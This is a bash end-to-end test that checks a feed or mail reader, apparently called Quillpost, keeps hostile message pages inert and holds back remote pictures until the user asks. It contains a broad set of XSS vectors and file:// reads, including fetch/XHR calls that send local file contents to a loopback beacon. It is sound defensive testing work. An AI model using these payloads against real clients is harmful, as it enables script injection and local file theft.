#!/usr/bin/env bash
# End-to-end regression test: a hostile message page stays inert in the real program (run it
# under xvfb-run). Five messages try every way we know to run script or read a local file; an
# attempt that worked would ask the loopback server for a /beacon/ path or show a local picture.
# A remote picture per page proves it was rendered. Wanted: no beacon, no local picture, no file
# written, no box, nothing handed to the desktop, the page stored as sent, the program still up
# and nothing on its standard error (the web engine's notices and the pages' console stay quiet).
# Before them, remote pictures only on request: messages naming a remote picture, a CSS
# background picture, a remote font and a remote style sheet ask nothing of the server until
# "Show Pictures" (then only the pictures) or "Always for This Source" (then the source's next
# message without asking, while another source's message still asks).
#
#   xvfb-run -a -s "-screen 0 1280x800x24" bash tests/e2e/page_safety_e2e.sh BUILD_DIR
set -euo pipefail
build=$(cd "${1:?usage: page_safety_e2e.sh BUILD_DIR}" && pwd)
source "$(dirname "$0")/e2e_common.sh"
mkdir -p "$work/tmp" "$work/secret" "$work/home" "$work/bin"
start_feed_server
beacon="$base/beacon"
run() { echo "new Image().src='$beacon/$1'"; }  # a script that asks for beacon $1

# The desktop's browser: whatever a page manages to hand over is written down, nothing opens.
for tool in xdg-open browser; do printf '#!/bin/sh\necho "$@" >> "%s/opened.log"\n' "$work" > "$work/bin/$tool"; done
chmod +x "$work"/bin/*

# The local files a page must never read, each asking for the beacon of its own name when loaded;
# copies lie in a temporary folder, beside item.htm and beside the copy of the page the view loads
# (in the program's temporary folder), so absolute and relative links find one.
for file in {iframe-file,iframe-data,iframe-relative,object-file,srcdoc-iframe-file,refresh-file,refresh-relative,xhr-file,xhr-file-sync}.html \
  {object-svg,embed-svg,svg-use-file,svg-use-relative}.svg {link-css-file,link-css-data,link-css-relative,import-css-file}.css \
  {script-file,script-data,script-relative}.js; do
  name=${file%.*}
  case ${file##*.} in
    html) text="<!doctype html><title>secret</title><img src=\"$beacon/$name\">" ;;
    svg) text="<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><g id=\"g\"><image href=\"$beacon/$name\" width=\"9\" height=\"9\"/></g></svg>" ;;
    css) text="#probe-$name { background: url($beacon/$name) }" ;;
    js) text="$(run "$name");" ;;
  esac
  for dir in "$work/secret" "$data" "$work/tmp"; do printf '%s\n' "$text" > "$dir/secret-$file"; done
done
# A red square a page must not show; a cyan one it shows from a data: address. Their colours
# share no byte pattern in any pixel layout.
red=iVBORw0KGgoAAAANSUhEUgAAACgAAAAoCAIAAAADnC86AAAALElEQVR42u3NsQkAAAjAsP7/tD4huASyp6kXicVisVgsFovFYrFYLBaLxXcWqvU6G92VM/sAAAAASUVORK5CYII=
cyan=iVBORw0KGgoAAAANSUhEUgAAACgAAAAoCAIAAAADnC86AAAALElEQVR42u3NMQkAAAwDsPo33Zko7AnkT9L+EIvFYrFYLBaLxWKxWCwWi3cOlLR0Nckl78QAAAAASUVORK5CYII=
for dir in "$work/secret" "$data" "$work/tmp"; do base64 -d <<< "$red" > "$dir/secret-picture.png"; done
tmpUrl="file://$work/secret"
dataUrl="file://${data// /%20}"

# Page 1: scripts in every form, in the body and the header fields, then local files through every
# element that loads a picture, a document, a style sheet or a script; a remote refresh ends it.
probes=""
for name in link-css-file link-css-data link-css-relative import-css-file; do probes+="<div id=\"probe-$name\" style=\"height:4px\"></div>"; done
page1="<p>Hello reader.</p><img src=\"data:image/png;base64,$cyan\" alt=\"\">\
<img src=\"$tmpUrl/secret-picture.png\" alt=\"\"><img src=\"$dataUrl/secret-picture.png\" alt=\"\"><img src=\"secret-picture.png\" alt=\"\">\
<span style=\"display: inline-block; width: 40px; height: 40px; background: url($tmpUrl/secret-picture.png)\"></span>\
<img src=\"$base/control-1.png\" alt=\"\" onload=\"$(run img-onload)\" onerror=\"$(run img-onerror-remote)\"><script>$(run script-image)</script>\
<script>fetch('$beacon/script-fetch')</script><script>var x = new XMLHttpRequest(); x.open('GET', '$beacon/script-xhr'); x.send()</script>\
<script>document.write('<img src=\"$beacon/script-write\">')</script><script src=\"$beacon/script-remote\"></script>\
<img src=\"x\" onerror=\"$(run img-onerror)\"><body onload=\"$(run body-onload)\"><svg onload=\"$(run svg-onload)\" width=\"4\" height=\"4\"></svg>\
<details open ontoggle=\"$(run details-ontoggle)\"><summary>more</summary>text</details><input autofocus onfocus=\"$(run input-onfocus)\">\
<style onload=\"$(run style-onload)\">p { margin: 0 }</style><video><source src=\"x\" onerror=\"$(run video-onerror)\"></video>\
<iframe src=\"javascript:$(run javascript-iframe)\"></iframe><object data=\"javascript:$(run javascript-object)\"></object>\
<embed src=\"javascript:$(run javascript-embed)\">\
<iframe srcdoc=\"&lt;script&gt;$(run srcdoc-script)&lt;/script&gt;&lt;iframe src=&quot;$tmpUrl/secret-srcdoc-iframe-file.html&quot;&gt;&lt;/iframe&gt;\"></iframe>\
<iframe src=\"data:text/html,&lt;script&gt;$(run data-iframe)&lt;/script&gt;\"></iframe><iframe src=\"$beacon/remote-iframe\"></iframe><link rel=\"stylesheet\" href=\"$beacon/remote-css\">\
<object data=\"$beacon/remote-object\" type=\"text/html\"></object><iframe src=\"$tmpUrl/secret-iframe-file.html\"></iframe>\
<iframe src=\"$dataUrl/secret-iframe-data.html\"></iframe><iframe src=\"secret-iframe-relative.html\"></iframe>\
<object data=\"$tmpUrl/secret-object-file.html\" type=\"text/html\"></object>\
<object data=\"$tmpUrl/secret-object-svg.svg\" type=\"image/svg+xml\"></object><embed src=\"$dataUrl/secret-embed-svg.svg\" type=\"image/svg+xml\">\
<svg width=\"9\" height=\"9\"><use href=\"$tmpUrl/secret-svg-use-file.svg#g\"/><use href=\"secret-svg-use-relative.svg#g\"/></svg>\
<link rel=\"stylesheet\" href=\"$tmpUrl/secret-link-css-file.css\"><link rel=\"stylesheet\" href=\"$dataUrl/secret-link-css-data.css\">\
<link rel=\"stylesheet\" href=\"secret-link-css-relative.css\"><style>@import url(\"$tmpUrl/secret-import-css-file.css\");</style>$probes\
<script src=\"$tmpUrl/secret-script-file.js\"></script><script src=\"$dataUrl/secret-script-data.js\"></script>\
<script src=\"secret-script-relative.js\"></script>\
<script>fetch('$tmpUrl/secret-xhr-file.html').then(r => r.text()).then(t => { new Image().src = '$beacon/xhr-file?' + encodeURIComponent(t) })</script>\
<script>var s = new XMLHttpRequest(); s.open('GET', '$dataUrl/secret-xhr-file-sync.html', false); s.send(); new Image().src = '$beacon/xhr-file-sync?' + encodeURIComponent(s.responseText)</script>\
<meta http-equiv=\"refresh\" content=\"0;url=$beacon/refresh-remote\">"
# A page follows one refresh only, so each of the others has a page of its own.
page2="<p>Second letter.</p><img src=\"$base/control-2.png\" alt=\"\"><meta http-equiv=\"refresh\" content=\"0;url=$tmpUrl/secret-refresh-file.html\">"
page3="<p>Third letter.</p><img src=\"$base/control-3.png\" alt=\"\"><meta http-equiv=\"refresh\" content=\"0;url=secret-refresh-relative.html\">"
page4="<p>Fourth letter.</p><img src=\"$base/control-4.png\" alt=\"\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:$(run refresh-javascript)\">"
page5="<p>Fifth letter.</p><img src=\"$base/control-5.png\" alt=\"\"><meta http-equiv=\"refresh\" content=\"0;url=data:text/html,&lt;script&gt;$(run refresh-data)&lt;/script&gt;&lt;img src=$beacon/refresh-data-img&gt;\">"

# Pictures letter N: remote content of every kind, and a data: picture that shows it was painted.
pictures() {
  echo "<style>@font-face { font-family: f$1; src: url($base/font-$1.woff) } p { font-family: f$1 }</style>\
<link rel=\"stylesheet\" href=\"$base/style-$1.css\"><p>Pictures letter $1.</p><img src=\"data:image/png;base64,$cyan\" alt=\"\">\
<img src=\"$base/pic-$1.png\" alt=\"\"><div style=\"width: 20px; height: 20px; background: url($base/bg-$1.png)\"></div>"
}

# The header block's fields are page text too.
subject1="Letter 1</title><script>$(run subject-script)</script>"
date1="Sat, 05 Dec 2026 <svg onload=\"$(run date-svg-onload)\"></svg>"
letter() { item "letter-$1" "Letter letter-$1" "$2" Desk desk@news.quillpost.test "${4:-Letter letter-$1}" "${5:-$2}" "$3"; }
{
  letter p1 "Tue, 08 Dec 2026" "$(pictures 1)"
  letter p2 "Mon, 07 Dec 2026" "$(pictures 2)"
  letter p3 "Sun, 06 Dec 2026" "$(pictures 3)"
  letter 1 "Sat, 05 Dec 2026" "$page1" "$subject1" "$date1"
  letter 2 "Fri, 04 Dec 2026" "$page2"
  letter 3 "Thu, 03 Dec 2026" "$page3"
  letter 4 "Wed, 02 Dec 2026" "$page4"
  letter 5 "Tue, 01 Dec 2026" "$page5"
} | feed letters Letters
item notes-1 "Note 1" "Sat, 05 Dec 2026" Desk desk@news.quillpost.test "Note 1" "Sat, 05 Dec 2026" "$(pictures n)" | feed notes Notes
# A 1x1 picture for the controls.
base64 -d <<< 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==' |
  tee "$work"/feeds/{control-{1..5},pic-{1,2,3,n},bg-{1,2,3,n}}.png > /dev/null

subscribe "Letters|$base/letters.xml" "Notes|$base/notes.xml"
# A copy of the program of its own, so that its settings.cfg (beside it) is this test's.
mkdir -p "$work/prog" && cp "$build"/{quillpost,quillpost_webview.so,view.tpl,Help.html} "$work/prog/"
program="$work/prog/quillpost"
export XDG_CACHE_HOME="$work/cache" HOME="$work/home" TMPDIR="$work/tmp"
export PATH="$work/bin:$PATH" BROWSER="$work/bin/browser" DEFAULT_BROWSER="$work/bin/browser"
(cd "$work" && find . -type f | sort) > "$work/files-before"
start_program
check_all "${ids[0]}=8" "${ids[1]}=1"

# Opens a message with these keys. The open page has the keyboard: a click on the free space
# below the list gives it back, the current row stays.
open_with() {
  focus_main
  xdotool mousemove --window "$wid" 140 300 click 1 && sleep 0.3 && key "$@"
}
asked() { grep -q "^GET /$1\$" "$work/requests.log"; }
# A local picture leaves no request behind: the screen tells. A square is 40 rows of runs of
# one colour, whether the dump has three or four bytes a pixel.
runs() { xwd -root -silent | LC_ALL=C grep -a -o -P "(?:$1){8}|(?:$1[\x00\xff]){8}|(?:[\x00\xff]$1){8}" | wc -l; }
shows_cyan() { [ "$(runs '\xff\xff\x00')" -ge 100 ]; }

# Nothing remote until asked: the page is painted and the bar asks.
focus_main
key Home Right Down Return
wait_for 300 shows_cyan || fail "the first pictures letter was not painted"
sleep 2
shot pictures-bar
for path in pic-1.png bg-1.png font-1.woff style-1.css; do ! asked "$path" || fail "asked for $path before the user did"; done
# "Show Pictures": both pictures come, the font and the style sheet still do not.
key alt+s
wait_for 300 asked pic-1.png && wait_for 100 asked bg-1.png || fail "Show Pictures brought no pictures"
shot pictures-shown
# "Always for This Source" on the next letter; the one after it shows its pictures unasked.
open_with Down Return
sleep 2
! asked pic-2.png || fail "the second letter asked for its picture before the user did"
key alt+a
wait_for 300 asked pic-2.png || fail "Always for This Source brought no pictures"
shot pictures-always
grep -q "^\[pictures\]" "$work/prog/settings.cfg" && grep -q "^${ids[0]}=1" "$work/prog/settings.cfg" ||
  fail "settings.cfg does not keep the source's pictures: $(cat "$work/prog/settings.cfg")"
open_with Down Return
wait_for 300 asked pic-3.png || fail "the source's next letter did not show its pictures unasked"

# Opens the next message down the tree and waits for its control picture.
opened=0
open_next() {
  open_with Down Return
  opened=$((opened + 1))
  wait_for 300 grep -q "^GET /control-$opened.png" "$work/requests.log" ||
    fail "page $opened was not rendered: its picture was never asked for"
  if [ -n "${QP_SCREENSHOT_DIR:-}" ]; then sleep 1; shot "page-$opened"; fi
}

open_next
for part in "$page1" "<title>$subject1</title>" "<td>$date1</td>"; do
  grep -qF "$part" "$data/item.htm" || fail "item.htm does not hold the first letter as sent: $part"
done
wait_for 80 shows_cyan || fail "the first page shows no picture from a data: address"
sleep 1
[ "$(runs '\x00\x00\xff')" -lt 20 ] || fail "the first page shows a picture from a local file"
for _ in 2 3 4 5; do open_next; done
grep -qF "$page5" "$data/item.htm" || fail "item.htm does not hold the fifth letter's body as sent"

# Another source's message still asks; "Show Pictures" proves it was up.
open_with End Right Down Return
sleep 3
! asked pic-n.png || fail "a message of another source asked for its picture unasked"
key alt+s
wait_for 300 asked pic-n.png || fail "the other source's message was not shown"
shot pictures-other-source

# Late comers: timers, refreshes and frames get a while after the last page.
if wait_for 100 grep -q ' /beacon/' "$work/requests.log"; then
  fail "the page ran script or read a local file: $(grep -o ' /beacon/[^? ]*' "$work/requests.log" | sort -u | tr -d ' ' | tr '\n' ' ')"
fi
unexpected=$(grep -v -E '^GET /((letters|notes)\.xml|control-[1-5]\.png|(pic|bg)-[123n]\.png)$' "$work/requests.log" || true)
[ -z "$unexpected" ] || fail "unexpected requests: $unexpected"

expect_quiet_end
# Nothing on standard error or output: neither the web engine's notices nor the pages' console.
[ ! -s "$work/out.log" ] || fail "the program wrote on standard error or output"
[ ! -s "$work/opened.log" ] || fail "the page handed something to the desktop without a click"

# What the program may write: its instance lock (in the data folder), the inbox and its state,
# item.htm, settings, its counts cache, caches of the toolkit and the session bus's address (where
# the desktop's bus starts on demand); the copy of the page in the temporary folder goes
# once it is shown.
written=$(cd "$work" && find . -type f | sort | comm -13 "$work/files-before" - |
  grep -v -E '^\./(requests|boxes|out)\.log$|^\./prog/settings\.cfg$|^\./data/Quillpost Data/(QUILLPOST2710INSTANCE\.lock|item\.htm|[0-9A-F-]{36}/(inbox|state)\.dat)$|^\./cache/(fontconfig|mesa_shader_cache)/|^\./cache/Quillpost/[0-9a-f]{16}/(counts\.dat|datafolder\.txt)$|^\./home/\.dbus/session-bus/' || true)
[ -z "$written" ] || fail "files written that nobody asked for: $written"
echo "page safety e2e passed"
